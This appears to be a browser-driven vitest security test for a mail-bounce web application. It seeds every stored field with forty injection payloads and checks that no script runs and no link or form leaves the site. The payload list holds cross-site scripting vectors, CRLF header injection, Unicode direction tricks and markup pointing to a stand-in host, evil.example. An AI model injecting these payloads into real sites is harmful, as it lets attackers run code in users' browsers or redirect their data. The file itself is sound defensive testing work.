// What strangers write comes out as text: forty payloads in every field of every page. Each page is parsed by the browser,
// and each payload is looked at in it on a page of some kind: opening all five hundred shows nothing more, and takes minutes.

import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { newWorld, report, type World } from '../end-to-end/world.ts'
import { within } from '../patience.ts'
import { type Browser, hasBrowser, openBrowser, type Reader } from './browser.ts'

const run = 'window.ran=1'

const payloads: readonly string[] = [
  `<script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</pre></bdi><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `"><img src=x onerror="${run}">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<iframe srcdoc="<script>parent.ran=1</script>">`,
  `<iframe src=javascript:parent.ran=1>`,
  `<a href="javascript:${run}">x</a>`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `" autofocus onfocus="${run}" x="`,
  `' onmouseover='${run}`,
  `" style="position:fixed;inset:0" onclick="${run}`,
  `<style>body{display:none}</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href=//evil.example/>`,
  `<form action=//evil.example><button>Save`,
  `<object data=javascript:${run}>`,
  `<template><script>${run}</script>`,
  `<!--><script>${run}</script>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<\u0000script>${run}</script>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `\u202Egnp.elif\u202C`,
  `\u2066left\u2069 \u200f right`,
  `\u001b[31mred\u001b[0m\u0007`,
  `zero\u200bwidth\ufeffjoined\u2060`,
  `Z${'\u0300\u0301\u0302\u0303\u0304'.repeat(60)}algo`,
  `${'x'.repeat(480)}`,
  `a\r\nSet-Cookie: ran=1\r\n\r\n<script>${run}</script>`,
]

/** Controls, and what draws nothing or turns the direction of what follows. */
const unseen =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b\u200e\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]/

/** What a column or an id takes. */
const cut = (text: string, length: number): string =>
  [...text.replaceAll('\u0000', '')].slice(0, length).join('')

const idOf = (payload: string, at: number): string =>
  cut(`${at} ${payload.replace(/[\p{Cc}\p{Cs}]/gu, '')}`, 64)

interface Parsed {
  readonly aliens: number
  /** Attributes that would run. */
  readonly acting: readonly string[]
  /** Where links and forms lead, but for our own origin. */
  readonly foreign: readonly string[]
  readonly read: string
}

interface Seen extends Parsed {
  readonly ran: unknown
  readonly origin: string
  /** Is each `main` visible? */
  readonly mains: readonly boolean[]
  /** Pixels beyond the window. */
  readonly overflow: number
}

/** What a document holds, whether it is shown or only parsed. What a field holds is the reader's to edit, and stays as it is. */
const parsed = `(page, text) => {
  const all = [...page.querySelectorAll('*')]
  const targets = [...page.querySelectorAll('a')]
    .map(a => a.protocol === 'http:' ? location.origin : a.href || 'nowhere')
    .concat([...page.forms].map(f => new URL(f.action, location.href).origin))
  return {
    aliens: page.querySelectorAll(
      'iframe, object, template, base, style, math, meta[http-equiv], script:not([src]), [style], img').length,
    acting: all.flatMap(e => e.getAttributeNames().filter(name => name.startsWith('on'))),
    foreign: targets.filter(target => target !== location.origin),
    read: text +
      all.flatMap(e => ['title', 'aria-label', 'alt', 'placeholder'].map(name => e.getAttribute(name))).join(''),
  }
}`

/** Asked in one question, since hundreds of pages are asked. */
const whatIsThere = `(() => {
  const root = document.documentElement
  const isVisible = e => e.checkVisibility({ visibilityProperty: true }) && e.getBoundingClientRect().height > 0
  return {
    ...(${parsed})(document, document.body.innerText),
    ran: window.ran,
    origin: location.origin,
    mains: [...document.querySelectorAll('main')].map(isVisible),
    overflow: Math.max(0, root.scrollWidth - root.clientWidth),
  }
})()`

/** The same of pages that are not shown, whose scripts would not run: there must be none. */
const whatIsIn = (htmls: readonly string[]): string => `${JSON.stringify(htmls)}.map(html => {
  const page = new DOMParser().parseFromString(html, 'text/html')
  for (const field of page.querySelectorAll('textarea, option')) field.remove()
  return { ...(${parsed})(page, page.body.textContent), mains: page.querySelectorAll('main').length }
})`

describe.skipIf(!hasBrowser)('strangers’ text', () => {
  let world: World
  let browser: Browser
  let reader: Reader
  const ids: string[] = []
  beforeAll(async () => {
    expect(new Set(payloads).size).toBe(40)
    world = await newWorld('sqlite')
    const { knex } = world.store
    for (const [at, payload] of payloads.entries()) {
      const id = idOf(payload, at)
      ids.push(id)
      const address = await world.mint({ module: 'contacts', id, campaign: id, to: 'ana@example.org' })
      const diagnostic = `550 5.1.1 ${payload.replace(/[\r\n]/g, ' ')}`
      expect(await world.send(address, report({ address: 'ana@example.org', diagnostic }))).toMatch(/^250/)
    }
    await vi.waitFor(
      async () => expect((await knex('rebound_evidence').count('* as n'))[0]?.n).toBe(payloads.length),
      { timeout: within(10_000) },
    )
    for (const [at, payload] of payloads.entries()) {
      const id = at + 1
      const text = (length: number): string => cut(payload, length)
      await knex('rebound_bounces')
        .where({ id })
        .update({
          diagnostic: text(2000),
          address: text(320),
          reported_address: text(320),
          subject: text(500),
          decided_text: text(500),
          decided_rule: text(100),
          reporting_mta: text(255),
          remote_mta: text(255),
          original_message_id: text(500),
          envelope_id: text(255),
          mail_id: text(255),
          blocklist: text(253),
          help_url: text(320),
          return_path: text(320),
          client_ip: cut(payload.replace(/[^\x20-\x7e]/g, ''), 45),
        })
      await knex('rebound_contacts')
        .where({ id: ids[at] })
        .update({ email: text(320), bounced_address: text(320) })
      await knex('rebound_campaigns')
        .where({ id: ids[at] })
        .update({ name: text(200) })
      const kept = JSON.parse((await knex('rebound_evidence').where({ event_id: id }).first()).body)
      for (const recipient of kept.recipients)
        Object.assign(recipient, { address: payload, diagnostic: payload })
      for (const section of Object.keys(kept.sections)) kept.sections[section] = payload
      await knex('rebound_evidence')
        .where({ event_id: id })
        .update({ body: JSON.stringify({ ...kept, reader: payload }) })
      await knex('rebound_incidents').insert({
        sign: 'host',
        subject: text(255),
        opened_at: Date.now(),
        last_sign_at: Date.now(),
        records: 20,
        domains: 10,
        decided_by: text(100),
        reason: text(500),
        decision: 'drop',
        decided_at: Date.now(),
      })
      await knex('rebound_outbox').insert({
        event_id: id,
        created_at: 1,
        due_at: null,
        attempts: 9,
        last_error: text(500),
      })
      await knex('rebound_replies').insert({
        event_id: id,
        received_at: Date.now(),
        sender: text(500),
        reply_to: text(500),
        subject: text(500),
        body: payload,
        bytes: 900,
      })
      await knex('rebound_audit').insert({
        at: Date.now(),
        actor: text(100),
        action: cut(payload.replace(/[^\x20-\x7e]/g, ''), 32),
        module: 'contacts',
        record_id: ids[at],
        before: JSON.stringify({ text: payload }),
      })
      await knex('rebound_saved_views').insert({
        list: at % 2 === 0 ? 'records' : 'events',
        name: cut(`${at} ${payload}`, 60),
        filters: JSON.stringify({ campaign: ids[at], [at % 2 === 0 ? 'address' : 'q']: payload }),
        saved_by: text(100),
        changed_at: 1,
      })
      await knex('rebound_stripped').insert({
        event_id: id,
        at: 1,
        detail: 'inert',
        code: cut(payload.replace(/[^\x20-\x7e]/g, ''), 64),
      })
      await knex('rebound_rules').insert({
        id: ids[at],
        section: ['body', 'subject', 'from'][at % 3],
        text: text(100),
        type: 'soft',
        stage: 'fallback',
        source: 'own',
        note: text(500),
      })
    }
    browser = await openBrowser(world.server.url)
    reader = await browser.open()
  }, within(120_000))
  afterAll(async () => {
    await browser?.close()
    await world?.close()
  })

  /** Opens a page and says what is wrong with it. */
  async function look(path: string): Promise<void> {
    const { page, faults } = reader
    const response = await page.goto(path)
    expect(response?.status(), path).toBeLessThan(500)
    await check(path)
    expect(faults, path).toEqual([])
  }

  /** Has the browser parse pages that it does not show. */
  async function parse(pages: readonly (readonly [name: string, Promise<Response>])[]): Promise<void> {
    const responses = await Promise.all(pages.map(([, response]) => response))
    const htmls = await Promise.all(responses.map(response => response.text()))
    const found = (await reader.page.evaluate(whatIsIn(htmls))) as readonly Parsed[]
    expect(found).toHaveLength(pages.length)
    for (const [at, { read, ...rest }] of found.entries()) {
      const name = pages[at]?.[0]
      expect(responses[at]?.status, name).toBeLessThan(500)
      expect(read.match(unseen), name).toBe(null)
      expect(rest, name).toEqual({ mains: 1, aliens: 0, acting: [], foreign: [] })
    }
  }

  const ask = async (path: string): Promise<Response> => await fetch(world.server.url + path)
  const post = async (path: string, body: FormData | URLSearchParams): Promise<Response> =>
    await fetch(world.server.url + path, {
      method: 'POST',
      body,
      headers: { 'sec-fetch-site': 'same-origin' },
    })

  /** Presses the button and waits for the page that answers: the one before would pass for it. */
  async function submit(name: string): Promise<void> {
    const { page } = reader
    await page.evaluate('window.isBefore = true')
    await page.getByRole('button', { name }).click()
    await page.waitForFunction('!window.isBefore && document.readyState === "complete"')
  }

  /** All are parsed; of each payload one is opened, of the next payload the next. */
  async function everyPage(kinds: (payload: string, at: number) => readonly string[]): Promise<void> {
    for (const [at, payload] of payloads.entries()) {
      const paths = kinds(payload, at)
      await look(paths[at % paths.length] as string)
      await parse(paths.map(path => [path, ask(path)]))
    }
  }

  async function check(path: string): Promise<void> {
    const seen = (await reader.page.evaluate(whatIsThere)) as Seen
    expect(seen.read.match(unseen), path).toBe(null)
    const { read: _, ...rest } = seen
    expect(rest, path).toEqual({
      ran: undefined,
      origin: world.server.url,
      mains: [true],
      overflow: 0,
      aliens: 0,
      acting: [],
      foreign: [],
    })
  }

  test.each([1280, 390])(
    'lists, %i wide',
    async width => {
      await reader.page.setViewportSize({ width, height: 900 })
      for (const path of [
        '/',
        '/records',
        '/events',
        '/events/stripped',
        '/campaigns',
        '/rules',
        '/settings',
        '/records?flag=all',
        '/incidents?all=yes',
        '/replies',
        '/settings/webhooks',
        '/settings/postmaster',
      ])
        await look(path)
    },
    within(60_000),
  )

  test(
    'records, events, incidents, answers, campaigns and rules, each by itself',
    async () => {
      await everyPage((_, at) => {
        const name = encodeURIComponent(ids[at] ?? '')
        return [
          `/records/contacts/${name}`,
          `/events/${at + 1}`,
          `/incidents/${at + 1}`,
          `/replies/${at + 1}`,
          `/campaigns/${name}`,
          `/rules/${name}`,
        ]
      })
    },
    within(60_000),
  )

  test(
    'what stands in the address bar',
    async () => {
      await everyPage(payload => {
        const text = encodeURIComponent(payload)
        return [
          `/records?address=${text}&campaign=${text}&from=${text}&module=${text}&done=${text}&after=`,
          `/events?q=${text}&campaign=${text}&provider=${text}`,
          `/rules/new?text=${text}&section=${text}&note=${text}&category=${text}`,
          `/records/contacts/${encodeURIComponent(cut(payload.replaceAll('/', ''), 60))}`,
        ]
      })
    },
    within(60_000),
  )

  test(
    'a mail that is looked at, and a rule that is previewed',
    async () => {
      const { page, faults } = reader
      for (const [at, payload] of payloads.entries()) {
        const name = `${cut(payload.replace(/[^\w<>"' =]/g, ''), 60)}.eml`
        const mail = report({ address: 'ana@example.org', diagnostic: `550 5.1.1 ${payload}` })
        const note = cut(payload, 500)
        // Each in the browser by turns, and both parsed.
        if (at % 2 === 0) {
          await page.goto('/why')
          await page
            .getByLabel('A mail as a file')
            .setInputFiles({ name, mimeType: 'message/rfc822', buffer: Buffer.from(mail) })
          await submit('Explain')
          await check(`/why ${payload}`)
        } else {
          await page.goto('/rules/new')
          await page.locator('#field-text').evaluate('e => e.removeAttribute("maxlength")')
          await page.getByLabel('Text').fill(payload)
          await page.getByLabel('Note').fill(note)
          await submit('Preview')
          await check(`/rules/preview ${payload}`)
        }
        const file = new FormData()
        file.set('file', new File([mail], name, { type: 'message/rfc822' }))
        const rule = { section: 'body', text: payload, type: 'hard', stage: 'override', category: '', note }
        await parse([
          [`/why ${payload}`, post('/why', file)],
          [`/rules/preview ${payload}`, post('/rules/preview', new URLSearchParams(rule))],
        ])
      }
      expect(faults.filter(fault => !/status of 400/.test(fault))).toEqual([])
    },
    within(60_000),
  )
})
